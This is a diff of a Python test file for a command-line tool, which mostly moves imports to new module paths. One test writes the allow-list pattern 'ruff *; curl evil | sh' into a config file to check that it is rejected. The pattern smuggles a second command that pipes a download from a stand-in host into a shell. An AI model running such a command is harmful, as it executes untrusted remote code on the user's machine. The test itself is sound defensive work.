@@ -12,13 +12,14 @@ from typing import Any
 import anyio
 import pytest
 
-from cogcli.allow import AllowList, BadPattern
-from cogcli.config import load_settings
-from cogcli.context import AbortSignal
-from cogcli.invoke import invoke_tool
+from cogcli.contract.allow_list import AllowList, BadPattern
+from cogcli.settings.load import load_settings
+from cogcli.contract.context import AbortSignal
+from cogcli.contract.invoke import invoke_tool
 from cogcli.models.scripted import Call, ScriptedModel, Turn
 from cogcli.session import Session
-from workspace_tools import bwrap, workspace_tools
+from workspace_tools import workspace_tools
+from workspace_tools.sandbox import bwrap
 
 SANDBOX = "on" if bwrap.bwrap_executable() else "off"
 
@@ -231,7 +232,7 @@ def test_the_persons_config_file_gives_allow_patterns_and_the_network(tmp_path: 
     assert settings.allow == ("git log *", "ruff *", "make lint") and settings.command_network is True
     assert load_settings(repo, command_network=False).command_network is False  # the flag wins
     (home / "cog" / "config.toml").write_text('allow = ["ruff *; curl evil | sh"]\n')
-    from cogcli.errors import ConfigError
+    from cogcli.contract.errors import ConfigError
 
     with pytest.raises(ConfigError, match="allow in your config.toml"):
         load_settings(repo)
